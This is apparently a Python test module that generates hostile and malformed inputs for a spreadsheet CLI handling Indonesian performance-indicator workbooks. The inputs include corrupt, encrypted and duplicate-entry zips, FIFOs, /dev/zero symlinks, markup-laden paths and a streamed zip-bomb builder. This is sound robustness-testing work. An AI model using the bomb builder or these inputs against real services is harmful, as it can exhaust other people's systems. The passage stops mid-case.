"""The corpus of broken and hostile inputs (reliability issue), made from scratch.

`make_corpus(folder)` writes every case into its own subfolder of `folder` and returns the
cases. Nothing binary is committed: workbooks are made with the CLI (`iki-xl new` on a YAML
document defined below), then mutated with zipfile / openpyxl / raw XML; the .xls and the
encrypted workbook are Compound Files made with cfbwrite and msoffcrypto.

This module is black-box: it never imports `iki_xl`. The only contact with the product is
`python -m iki_xl new` (to make the valid workbooks that are then mutated).

Each case states what the *finished* product must do (per the issue), not what it does
today: for every command it applies to, the allowed exit codes and what the message must
say (Bahasa Indonesia, naming the file, and the sheet and cell where there is one). The
checks every run gets whatever the case (no traceback, one stderr line for exit 2, inputs
byte-identical, no leftovers, time and memory bounds) live in `run.py`.

Run `python -m tests.hostile.corpus FOLDER` to make the corpus and list it.
"""

from __future__ import annotations

import contextlib
import copy
import datetime as dt
import io
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import yaml

from iki_xl.layout import jabatan_sheet_names

ROOT = Path(__file__).resolve().parents[2]

# ---------------------------------------------------------------- what a case expects

# the commands a case can apply to; run.py turns each into an argv
WB = (
    "show",
    "show-json",
    "validate",
    "validate-json",
    "validate-report",
    "export",
    "consolidate",
    "laporan",
)
DATA = (
    "show",
    "show-json",
    "new",
    "validate",
    "validate-json",
    "validate-report",
    "consolidate",
    "laporan",
)
MACROS = ("macro-validate", "macro-recalculate", "macro-consolidate")

# Bahasa keywords of the messages (loose on purpose: the wording is the product's choice)
NOT_A_WORKBOOK = r"bukan workbook|tidak dapat dibaca|rusak|format|bukan berkas"
TOO_BIG = r"terlalu besar|terlalu banyak|bom|rasio|melebihi|batas"
DTD = r"DTD|DOCTYPE|entitas|" + NOT_A_WORKBOOK
NOT_REGULAR = r"bukan berkas biasa|perangkat|pipa|FIFO|" + NOT_A_WORKBOOK


@dataclass(frozen=True)
class Expect:
    """What one command must do with one case."""

    codes: frozenset[int]
    # literal texts the message must contain (file, sheet names); searched in stderr, or in
    # stdout + stderr (and the report) when the command exits 0/1
    names: tuple[str, ...] = ()
    pattern: str | None = None  # a regex (case-insensitive) the message must match
    # findings that must point at a cell: (sheet, cell regex such as r"K11")
    cells: tuple[tuple[str, str], ...] = ()
    present: tuple[str, ...] = ()  # texts that must arrive intact in the outputs (or stdout)
    absent: tuple[str, ...] = ()  # texts that must appear nowhere (stdout, stderr, outputs)
    not_formula: tuple[str, ...] = ()  # never inside a formula of an output workbook
    once: str | None = None  # consolidate: this input's summary line appears at most once
    note: str = ""  # why (English, for the report)


@dataclass
class Case:
    name: str
    about: str  # English, one line
    folder: Path
    inputs: tuple[str, ...]  # relative to folder
    expect: dict[str, Expect]
    inputs_for: dict[str, tuple[str, ...]] = field(default_factory=dict)
    output_for: dict[str, str] = field(default_factory=dict)  # -o, relative to folder
    time_s: float = 15.0  # bound on wall time per run
    mem_mb: int = 200  # bound on peak RSS above the command's normal run
    slow: bool = False
    forbid_files: tuple[str, ...] = ()  # paths (relative to folder) that must never appear

    def inputs_of(self, command: str) -> tuple[str, ...]:
        return self.inputs_for.get(command, self.inputs)


def E(*codes: int, **kw: Any) -> Expect:
    return Expect(frozenset(codes), **kw)


def refuse(
    name: str, pattern: str | None = None, commands: Iterable[str] = WB, **kw: Any
) -> dict[str, Expect]:
    """Exit 2, one line naming the file."""
    return {c: E(2, names=(name,), pattern=pattern, **kw) for c in commands}


def usable(commands: Iterable[str] = WB, **kw: Any) -> dict[str, Expect]:
    """A file the product must simply read: findings allowed, no crash, nothing lost."""
    codes = {
        "show": (0,),
        "show-json": (0,),
        "new": (0,),
        "validate": (0, 1),
        "validate-json": (0, 1),
        "validate-report": (0, 1),
        "export": (0, 1),
        "consolidate": (0, 1),
        "laporan": (0, 1),
        "macro-validate": (0,),
        "macro-recalculate": (0,),
        "macro-consolidate": (0,),
    }
    return {c: E(*codes[c], **kw) for c in commands}


def finding(
    commands: Iterable[str],
    codes: tuple[int, ...] = (1, 2),
    **kw: Any,
) -> dict[str, Expect]:
    return {c: E(*codes, **kw) for c in commands}


def with_(base: dict[str, Expect], **changes: Any) -> dict[str, Expect]:
    """Every expectation of `base` with the same fields changed."""
    return {c: replace(e, **changes) for c, e in base.items()}


# ---------------------------------------------------------------- the base document

BASE: dict[str, Any] = yaml.safe_load(
    """
instansi:
  pemerintah: Kabupaten Contoh
  nama: Dinas Uji Ketahanan
  kota: Contoh
  tahun: 2025
  nomor_keputusan: 800/001/2025
  tanggal_keputusan: 2 Januari 2025
  kepala: {nama: Budi Santoso, pangkat: Pembina Utama Muda (IV/c), nip: '197001011995031001'}
  menimbang: [bahwa perlu menetapkan Indikator Kinerja Individu bagi setiap jabatan;]
  mengingat: [Peraturan Presiden Nomor 29 Tahun 2014 tentang Sistem Akuntabilitas Kinerja Instansi Pemerintah;]
jabatan:
- id: kadis
  nama: Kepala Dinas Uji Ketahanan
  jenis: JPT Pratama
  unit: Pimpinan
  tugas: [Membantu Bupati melaksanakan urusan pemerintahan bidang sosial.]
  fungsi: [perumusan kebijakan bidang sosial;, pelaksanaan fungsi lain yang diberikan oleh Bupati.]
  kinerja:
  - sasaran: Meningkatnya kesejahteraan sosial
    indikator:
    - nama: Persentase PMKS yang tertangani
      jenis: persentase
      formulasi: Jumlah PMKS yang tertangani / Jumlah PMKS seluruhnya × 100%
      sumber_data: Basis data PMKS (SIKS-NG)
      satuan: '%'
      target: 80
      komponen:
      - {kode: A, nama: Jumlah PMKS yang tertangani, realisasi: [10, 20, 30, 40]}
      - {kode: B, nama: Jumlah PMKS seluruhnya, realisasi: [50, 50, 50, 50]}
    - nama: Indeks Pemberdayaan Gender
      jenis: indeks
      formulasi: 'IDG = (A + B + C) / 3'
      ekspresi: (A + B + C) / 3
      sumber_data: Publikasi BPS
      satuan: indeks
      target: 70
      komponen:
      - {kode: A, nama: Indeks keterwakilan di parlemen, realisasi: [null, null, null, 60]}
      - {kode: B, nama: Indeks pengambilan keputusan, realisasi: [null, null, null, 70]}
      - {kode: C, nama: Indeks distribusi pendapatan, realisasi: [null, null, null, 80]}
- id: sekretaris
  nama: Sekretaris
  jenis: Administrator
  unit: Sekretariat
  atasan: kadis
  tugas: [Melaksanakan koordinasi perencanaan dan keuangan., Melaksanakan tugas lain yang diberikan oleh Kepala Dinas.]
  fungsi: [pengoordinasian perencanaan dan keuangan;, pelaksanaan fungsi lain yang diberikan oleh Kepala Dinas.]
  kinerja:
  - sasaran: Meningkatnya kualitas perencanaan
    indikator:
    - nama: Jumlah dokumen perencanaan yang disusun
      jenis: jumlah
      formulasi: Σ dokumen perencanaan yang disusun
      sumber_data: Arsip dokumen perencanaan
      satuan: dokumen
      target: 4
      agregasi: kumulatif
      mendukung: Persentase PMKS yang tertangani
      realisasi: [1, 1, 1, 1]
    - nama: Persentase laporan yang terlambat
      jenis: persentase
      formulasi: Jumlah laporan terlambat / Jumlah laporan × 100%
      sumber_data: Register laporan
      satuan: '%'
      polaritas: negatif
      mendukung: Persentase PMKS yang tertangani
      target: 10
      realisasi: [12, 9, 8, 7]
- id: kasubag
  nama: Kepala Sub Bagian Umum
  jenis: Pengawas
  unit: Sekretariat
  atasan: sekretaris
  tugas: [Melaksanakan urusan umum dan kepegawaian., Melaksanakan tugas lain yang diberikan oleh Sekretaris.]
  kinerja:
  - sasaran: Meningkatnya layanan umum
    indikator:
    - nama: Status Kabupaten Layak Anak
      jenis: status
      formulasi: Status menurut skor evaluasi KLA
      sumber_data: Hasil evaluasi KLA
      satuan: level
      mendukung: Jumlah dokumen perencanaan yang disusun
      target: Madya
      skala:
      - {nama: Pratama, bawah: 500, atas: 600}
      - {nama: Madya, bawah: 601, atas: 700}
      - {nama: Nindya, bawah: 701, atas: 800}
      realisasi: [null, null, null, Madya]
    - nama: Rasio pegawai terhadap layanan
      jenis: rasio
      formulasi: Jumlah pegawai / Jumlah layanan
      sumber_data: Data kepegawaian
      satuan: rasio
      polaritas: range
      mendukung: Jumlah dokumen perencanaan yang disusun
      target: {bawah: 7, atas: 8}
      realisasi: [7.5, 7.5, 7.5, 7.5]
"""
)

# names the expectations refer to
S_KADIS = "Kepala Dinas Uji Ketahanan"
S_SEK = "Sekretaris"
S_KASUBAG = "Kepala Sub Bagian Umum"
DINAS = BASE["instansi"]["nama"]
ALL_INDICATORS = tuple(
    ind["nama"] for j in BASE["jabatan"] for k in j["kinerja"] for ind in k["indikator"]
)
ALL_JABATAN = tuple(j["nama"] for j in BASE["jabatan"])
# the Kasubag's sheet tab is its short form ("Kasubag Umum"); the others are their names
TAB_KASUBAG = jabatan_sheet_names(ALL_JABATAN)[ALL_JABATAN.index(S_KASUBAG)]


def base_doc() -> dict[str, Any]:
    return copy.deepcopy(BASE)


# ---------------------------------------------------------------- running the CLI to make files


def cli_env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(
        [str(ROOT), *[p for p in env.get("PYTHONPATH", "").split(os.pathsep) if p]]
    )
    return env


def cli_new(data: Path, out: Path) -> None:
    """`iki-xl new data -o out` (the only way this corpus makes a valid workbook)."""
    r = subprocess.run(
        [sys.executable, "-m", "iki_xl", "new", str(data), "-o", str(out)],
        capture_output=True,
        text=True,
        env=cli_env(),
        timeout=300,
    )
    if r.returncode != 0 or not out.exists():
        raise RuntimeError(f"iki-xl new {data} failed ({r.returncode}): {r.stderr[-2000:]}")


def dump_yaml(doc: Any, path: Path) -> Path:
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


# ---------------------------------------------------------------- zip and XML helpers


def zip_parts(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def zip_bytes(parts: Iterable[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the cases
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for name, body in parts:
                z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def sheet_parts(data: bytes) -> dict[str, str]:
    """Sheet name → its part name in the package (read from workbook.xml and its rels)."""
    parts = dict(zip_parts(data))
    wb = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = {
        m.group(1): m.group(2)
        for m in re.finditer(r'<Relationship Id="([^"]+)"[^>]*Target="([^"]+)"', rels)
    }
    target |= {
        m.group(2): m.group(1)
        for m in re.finditer(r'<Relationship [^>]*Target="([^"]+)"[^>]*Id="([^"]+)"', rels)
    }
    out = {}
    for m in re.finditer(r"<sheet [^>]*>", wb):
        tag = m.group(0)
        name = re.search(r'name="([^"]*)"', tag).group(1)  # type: ignore[union-attr]
        rid = re.search(r'r:id="([^"]*)"', tag).group(1)  # type: ignore[union-attr]
        t = target[rid].lstrip("/")
        out[unescape(name)] = t if t.startswith("xl/") else "xl/" + t
    return out


def unescape(s: str) -> str:
    return (
        s.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">")
    ).replace("&amp;", "&")


def xesc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def replace_part(data: bytes, name: str, fn: Callable[[bytes], bytes]) -> bytes:
    return zip_bytes((n, fn(b) if n == name else b) for n, b in zip_parts(data))


def set_cell_xml(sheet: str, ref: str, cell: str) -> str:
    """Replace cell `ref` in a sheet part's XML by `cell` (which must carry r="ref"); add it
    to its row (in column order) when the cell is absent."""
    pat = re.compile(rf'<c r="{ref}"(?:[^>]*/>|[^>]*>.*?</c>)', re.S)
    if pat.search(sheet):
        return pat.sub(lambda _: cell, sheet, count=1)
    row = int(re.sub(r"[A-Z]+", "", ref))
    m = re.search(rf'<row r="{row}"[^>]*?(/>|>)', sheet)
    if m is None:  # a new row, placed before the first higher row
        later = [x for x in re.finditer(r'<row r="(\d+)"', sheet) if int(x.group(1)) > row]
        at = later[0].start() if later else sheet.index("</sheetData>")
        return sheet[:at] + f'<row r="{row}">{cell}</row>' + sheet[at:]
    if m.group(1) == "/>":
        return sheet[: m.start()] + f'<row r="{row}">{cell}</row>' + sheet[m.end() :]
    end = sheet.index("</row>", m.end())
    body = sheet[m.end() : end]
    col = col_num(re.sub(r"\d+", "", ref))
    pos = len(body)
    for c in re.finditer(r'<c r="([A-Z]+)\d+"', body):
        if col_num(c.group(1)) > col:
            pos = c.start()
            break
    return sheet[: m.end()] + body[:pos] + cell + body[pos:] + sheet[end:]


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{xesc(text)}</t></is></c>'


def col_num(letters: str) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n


def col_letters(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


# ---------------------------------------------------------------- finding cells in a jabatan sheet


@dataclass
class Table:
    """Where the base workbook's table is (found by its header labels, as a planner sees it)."""

    header_row: int  # 1-based, the top header row
    col: dict[str, str]  # label → column letters; groups as "Realisasi/TW I"
    rows: list[int] = field(default_factory=list)  # each indicator's first row (No IK filled)

    def __getitem__(self, label: str) -> str:
        return self.col[label]


def table_of(ws: Any) -> Table:
    for row in ws.iter_rows(min_row=1, max_row=40):
        labels = {c.value: c.column for c in row if isinstance(c.value, str)}
        if "Indikator Kinerja" in labels:
            r = row[0].row
            col: dict[str, str] = {}
            group = ""
            for c in range(1, ws.max_column + 1):
                top = ws.cell(r, c).value
                sub = ws.cell(r + 1, c).value
                if isinstance(top, str) and top:
                    group = top
                    col.setdefault(top, col_letters(c))
                if isinstance(sub, str) and sub:
                    col[f"{group}/{sub}"] = col_letters(c)
            noik = col_num(col["No IK"])
            rows = []
            for rr in range(r + 2, ws.max_row + 1):
                if ws.cell(rr, 1).value == "Tugas":
                    break
                if ws.cell(rr, noik).value not in (None, ""):
                    rows.append(rr)
            return Table(r, col, rows)
    raise RuntimeError(f"no table on {ws.title}")


def edit_workbook(src: Path, fn: Callable[[Any], None]) -> bytes:
    """Open with openpyxl (as a planner's Excel would hold it), apply `fn`, save."""
    import openpyxl

    wb = openpyxl.load_workbook(src)
    fn(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def set_text(ws: Any, ref: str, text: str) -> None:
    """A text cell, also when it starts with '=' (openpyxl would make it a formula)."""
    c = ws[ref]
    c.value = text
    c.data_type = "s"


def shift_merges(ws: Any, *, row: int = 0, col: int = 0, at: int) -> None:
    """openpyxl's insert_rows/insert_cols leave merged ranges behind: move them as Excel does."""
    from openpyxl.worksheet.cell_range import CellRange

    moved = []
    for rng in list(ws.merged_cells.ranges):
        ws.merged_cells.remove(rng)
        r = CellRange(rng.coord)
        if row and r.min_row >= at:
            r.shift(row_shift=row)
        if col and r.min_col >= at:
            r.shift(col_shift=col)
        moved.append(r.coord)
    for coord in moved:
        ws.merge_cells(coord)


# ---------------------------------------------------------------- bombs (written by hand, streamed)


def _deflate_chunk(data: bytes, final: bool = False) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + (c.flush() if final else c.flush(zlib.Z_FULL_FLUSH))


@dataclass
class RawEntry:
    name: str
    deflated: bytes  # raw deflate stream
    crc: int
    size: int


def raw_entry(name: str, body: bytes) -> RawEntry:
    return RawEntry(name, _deflate_chunk(body, final=True), zlib.crc32(body), len(body))


def bomb_entry(name: str, head: bytes, filler: bytes, repeat: int, tail: bytes) -> RawEntry:
    """An entry inflating to head + filler × repeat + tail, written without ever holding the
    inflated bytes: after a full flush deflate restarts, so one compressed filler block can
    be repeated."""
    block = _deflate_chunk(filler)
    crc = zlib.crc32(head)
    for _ in range(repeat):
        crc = zlib.crc32(filler, crc)
    crc = zlib.crc32(tail, crc)
    stream = _deflate_chunk(head) + block * repeat + _deflate_chunk(tail, final=True)
    return RawEntry(name, stream, crc, len(head) + len(filler) * repeat + len(tail))


def write_raw_zip(path: Path, entries: list[RawEntry]) -> None:
    """A plain (non-zip64) zip from raw deflate streams; sizes must stay under 4 GiB."""
    central = b""
    with path.open("wb") as f:
        for e in entries:
            off = f.tell()
            name = e.name.encode()
            f.write(
                struct.pack(
                    "<IHHHHHIIIHH",
                    0x04034B50,
                    20,
                    0,
                    8,
                    0,
                    0x21,
                    e.crc,
                    len(e.deflated),
                    e.size,
                    len(name),
                    0,
                )
                + name
            )
            f.write(e.deflated)
            central += (
                struct.pack(
                    "<IHHHHHHIIIHHHHHII",
                    0x02014B50,
                    20,
                    20,
                    0,
                    8,
                    0,
                    0x21,
                    e.crc,
                    len(e.deflated),
                    e.size,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    0,
                    off,
                )
                + name
            )
        cd = f.tell()
        f.write(central)
        f.write(
            struct.pack(
                "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd, 0
            )
        )


def bomb_workbook(path: Path, base: bytes, part: str, make: Callable[[bytes], RawEntry]) -> int:
    """`base` with `part` replaced by a bomb entry; returns the bomb's inflated size."""
    entries = []
    size = 0
    for name, body in zip_parts(base):
        if name == part:
            e = make(body)
            size = e.size
            entries.append(e)
        else:
            entries.append(raw_entry(name, body))
    write_raw_zip(path, entries)
    return size


# ---------------------------------------------------------------- other containers


def make_xls(path: Path) -> None:
    """A minimal BIFF8 .xls: a Compound File whose Workbook stream has BOF … EOF."""
    import cfbwrite

    bof = struct.pack("<HH", 0x0809, 16) + struct.pack(
        "<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x41, 0x06
    )
    eof = struct.pack("<HH", 0x000A, 0)
    stream = bof + eof + b"\0" * 4096  # padded past the mini-stream cut-off
    cfbwrite.write_ole(path, [cfbwrite.Entry("Workbook", False, len(stream), lambda: stream)])


def make_docx() -> bytes:
    ct = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
        'main+xml"/></Types>'
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    doc = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
        'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>KEPUTUSAN '
        "KEPALA DINAS</w:t></w:r></w:p></w:body></w:document>"
    )
    return zip_bytes(
        [
            ("[Content_Types].xml", ct.encode()),
            ("_rels/.rels", rels.encode()),
            ("word/document.xml", doc.encode()),
        ]
    )


def make_ods() -> bytes:
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
        'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
        'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
        'spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-'
        'type="text/xml"/></manifest:manifest>'
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:'
        'oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:'
        'opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:'
        'text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table '
        'table:name="Sekretaris"><table:table-row><table:table-cell office:value-type="string">'
        "<text:p>Indikator Kinerja</text:p></table:table-cell></table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document-content>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        z.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


# ---------------------------------------------------------------- the cases

MAKERS: list[Callable[[Path, Sources], list[Case]]] = []


def case(fn: Callable[[Path, Sources], list[Case] | Case]) -> Callable[[Path, Sources], list[Case]]:
    def make(folder: Path, src: Sources) -> list[Case]:
        r = fn(folder, src)
        return r if isinstance(r, list) else [r]

    make.__name__ = fn.__name__
    MAKERS.append(make)
    return make


@dataclass
class Sources:
    """The valid files every mutation starts from (made once per corpus)."""

    folder: Path
    yaml: Path  # the base document
    xlsx: Path  # `iki-xl new base.yaml`
    table: dict[str, Table]  # jabatan sheet → its table

    @property
    def xlsx_bytes(self) -> bytes:
        return self.xlsx.read_bytes()

    def part(self, sheet: str) -> str:
        return sheet_parts(self.xlsx_bytes)[sheet]


def make_sources(folder: Path) -> Sources:
    import openpyxl

    folder.mkdir(parents=True, exist_ok=True)
    y = dump_yaml(BASE, folder / "base.yaml")
    x = folder / "base.xlsx"
    cli_new(y, x)
    wb = openpyxl.load_workbook(x)
    tables = {s: table_of(wb[s]) for s in (S_KADIS, S_SEK, TAB_KASUBAG)}
    return Sources(folder, y, x, tables)


def _dir(folder: Path, name: str) -> Path:
    d = folder / name
    if d.exists() or d.is_symlink():
        shutil.rmtree(d)
    d.mkdir(parents=True)
    return d


# ---- A. not a workbook at all


@case
def not_a_workbook(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []

    def add(name: str, about: str, body: bytes | None, pattern: str = NOT_A_WORKBOOK) -> None:
        d = _dir(folder, name)
        f = d / f"{name}.xlsx"
        if body is not None:
            f.write_bytes(body)
        made.append(Case(name, about, d, (f.name,), refuse(f.name, pattern)))

    base = src.xlsx_bytes
    add("empty-file", "a 0-byte file named .xlsx", b"")
    add(
        "text-renamed",
        "a text file renamed .xlsx",
        b"Ini bukan workbook.\nJabatan: Sekretaris\n",
    )
    add("docx-renamed", "a Word .docx renamed .xlsx (a valid OOXML zip, wrong kind)", make_docx())
    add("ods-renamed", "an OpenDocument spreadsheet renamed .xlsx", make_ods())
    add(
        "csv-renamed",
        "a CSV export renamed .xlsx",
        b"No;Kinerja;Indikator Kinerja;Sumber Data\n1;Meningkatnya layanan;Persentase layanan;Arsip\n",
    )
    add(
        "truncated-zip",
        "the base workbook cut in half (a truncated download)",
        base[: len(base) // 2],
    )
    parts = [(n, b) for n, b in zip_parts(base) if n != "xl/workbook.xml"]
    add("missing-workbook-part", "xl/workbook.xml removed from the package", zip_bytes(parts))
    # .xls (BIFF8 in a Compound File)
    d = _dir(folder, "xls-renamed")
    make_xls(d / "xls-renamed.xlsx")
    made.append(
        Case("xls-renamed", "an Excel 97-2003 .xls (CFB/BIFF8) renamed .xlsx", d,
             ("xls-renamed.xlsx",), refuse("xls-renamed.xlsx", NOT_A_WORKBOOK + r"|xls|97|2003"))
    )  # fmt: skip
    # encrypted workbook (Excel "Encrypt with Password": a CFB with EncryptedPackage)
    from msoffcrypto.format.ooxml import OOXMLFile

    d = _dir(folder, "encrypted")
    with src.xlsx.open("rb") as fin, (d / "encrypted.xlsx").open("wb") as fout:
        OOXMLFile(fin).encrypt("rahasia", fout)
    made.append(
        Case("encrypted", "the base workbook encrypted with a password (CFB EncryptedPackage)",
             d, ("encrypted.xlsx",), refuse("encrypted.xlsx", r"sandi|enkripsi|terenkripsi|dilindungi"))
    )  # fmt: skip
    return made


@case
def duplicate_zip_entry(folder: Path, src: Sources) -> Case:
    """Two entries named like the Sekretaris sheet part: readers disagree which one wins."""
    d = _dir(folder, "duplicate-zip-entry")
    part = src.part(S_SEK)
    parts = zip_parts(src.xlsx_bytes)
    stub = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://'
        b'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
    )
    parts.append((part, stub))
    (d / "duplicate-zip-entry.xlsx").write_bytes(zip_bytes(parts))
    return Case(
        "duplicate-zip-entry", "a zip with two entries for the Sekretaris sheet part", d,
        ("duplicate-zip-entry.xlsx",),
        refuse("duplicate-zip-entry.xlsx", r"ganda|dua kali|duplikat|rusak|lebih dari satu"),
    )  # fmt: skip


@case
def malformed_sheet_xml(folder: Path, src: Sources) -> Case:
    d = _dir(folder, "malformed-sheet-xml")
    part = src.part(S_SEK)
    data = replace_part(
        src.xlsx_bytes, part, lambda b: b.replace(b"</sheetData>", b'<row r="999"><c>')
    )
    (d / "malformed-sheet-xml.xlsx").write_bytes(data)
    return Case(
        "malformed-sheet-xml", "the Sekretaris sheet part is not well-formed XML", d,
        ("malformed-sheet-xml.xlsx",),
        finding(WB, names=("malformed-sheet-xml.xlsx", S_SEK),
                note="today: sheet skipped with a warning only; must not lose a jabatan quietly"),
    )  # fmt: skip


# ---- B. the file system


@case
def filesystem(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    # a directory where a workbook is expected
    d = _dir(folder, "directory-input")
    (d / "folder.xlsx").mkdir()
    exp = refuse("folder.xlsx", r"folder|direktori")
    exp["consolidate"] = E(2, names=("folder.xlsx",), pattern=r"tidak ada|kosong|tidak ditemukan")
    exp["laporan"] = exp["consolidate"]
    made.append(
        Case("directory-input", "a directory named folder.xlsx as input", d, ("folder.xlsx",), exp)
    )
    # FIFOs: must not block
    for ext, cmds in ((".xlsx", WB), (".yaml", DATA)):
        name = f"fifo{ext.replace('.', '-')}"
        d = _dir(folder, name)
        os.mkfifo(d / f"fifo{ext}")
        made.append(
            Case(name, f"a FIFO named fifo{ext} (nobody writes to it)", d, (f"fifo{ext}",),
                 refuse(f"fifo{ext}", NOT_REGULAR, cmds), time_s=5)
        )  # fmt: skip
    # /dev/zero behind a data / workbook name: endless input
    for ext, cmds in ((".yaml", DATA), (".json", DATA), (".xlsx", WB)):
        name = f"dev-zero{ext.replace('.', '-')}"
        d = _dir(folder, name)
        (d / f"zero{ext}").symlink_to("/dev/zero")
        made.append(
            Case(name, f"zero{ext} is a symlink to /dev/zero (endless input)", d, (f"zero{ext}",),
                 refuse(f"zero{ext}", NOT_REGULAR + "|" + TOO_BIG, cmds), time_s=5)
        )  # fmt: skip
    # symlink loops
    for ext, cmds in ((".xlsx", WB), (".yaml", DATA)):
        name = f"symlink-loop{ext.replace('.', '-')}"
        d = _dir(folder, name)
        (d / f"loop{ext}").symlink_to(f"loop{ext}")
        made.append(
            Case(name, f"loop{ext} is a symlink to itself", d, (f"loop{ext}",),
                 refuse(f"loop{ext}", r"tautan|symlink|melingkar|tidak dapat dibaca|tidak ditemukan", cmds),
                 time_s=5)
        )  # fmt: skip
    # unreadable files (runs drop root's DAC override, see run.py)
    for ext, cmds, srcf in ((".xlsx", WB, src.xlsx), (".yaml", DATA, src.yaml)):
        name = f"unreadable{ext.replace('.', '-')}"
        d = _dir(folder, name)
        f = d / f"terkunci{ext}"
        shutil.copyfile(srcf, f)
        f.chmod(0)
        made.append(
            Case(name, f"terkunci{ext}: a valid file with mode 000", d, (f.name,),
                 refuse(f.name, r"izin|akses|tidak dapat dibaca", cmds))
        )  # fmt: skip
    return made


@case
def awkward_paths(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    # spaces, Unicode and an RTL name: all commands just work, outputs named alike
    d = _dir(folder, "path-unicode-spaces")
    sub = d / "Dinas Sosial — Kab. Contoh ✓"
    sub.mkdir()
    wb = "IKI 2025 (final) ñ ناصر 👩‍💼.xlsx"
    yml = "IKI 2025 (final) ñ ناصر.yaml"
    shutil.copyfile(src.xlsx, sub / wb)
    shutil.copyfile(src.yaml, sub / yml)
    rel = f"{sub.name}/{wb}"
    out = "Pengajuan — ناصر ✓.xlsx"
    exp = usable([*WB, "new"])
    exp["consolidate"] = E(0, 1, names=(out,))
    made.append(
        Case("path-unicode-spaces", "folder and file names with spaces, Unicode, RTL and emoji",
             d, (rel,), exp, inputs_for={"new": (f"{sub.name}/{yml}",)},
             output_for={"consolidate": out, "new": "Baru ✓ ناصر.xlsx", "export": "ekspor ñ.yaml"})
    )  # fmt: skip
    # rich markup in the names: "[/]" needs a "/", so it sits across two folders; the file's
    # own name holds "[b]" and "[red]" (rich would swallow them as styles). A finding makes
    # validate print the file name.
    d = _dir(folder, "path-markup")
    wbname = "markup [/] x/[b]IKI [red]Dinas [link=x].xlsx"
    data = edit_workbook(
        src.xlsx, lambda w: setattr(w[S_SEK][f"{src.table[S_SEK]['Sumber Data']}11"], "value", None)
    )
    outs = {
        "consolidate": "keluaran [/] y/[bold]Pengajuan [red].xlsx",
        "export": "keluaran [/] y/[b]ekspor.yaml",
        "validate-report": "keluaran [/] y/[b]lap.xlsx",
    }
    for p in (wbname, *outs.values()):
        (d / p).parent.mkdir(parents=True, exist_ok=True)
    (d / wbname).write_bytes(data)
    base_name = Path(wbname).name
    exp = usable(WB)
    for c in ("validate", "validate-report"):
        exp[c] = E(1, names=(base_name,), note="the table title names the file literally")
    exp["consolidate"] = E(0, 1, names=(Path(outs["consolidate"]).name,))
    exp["export"] = E(0, 1, names=(Path(outs["export"]).name,))
    made.append(
        Case("path-markup", "paths holding rich markup: markup [/] x/[b]IKI [red]Dinas [link=x].xlsx",
             d, (wbname,), exp, output_for=outs)
    )  # fmt: skip
    # a missing file whose name is markup
    d = _dir(folder, "missing-markup-name")
    (d / "[").mkdir()
    made.append(
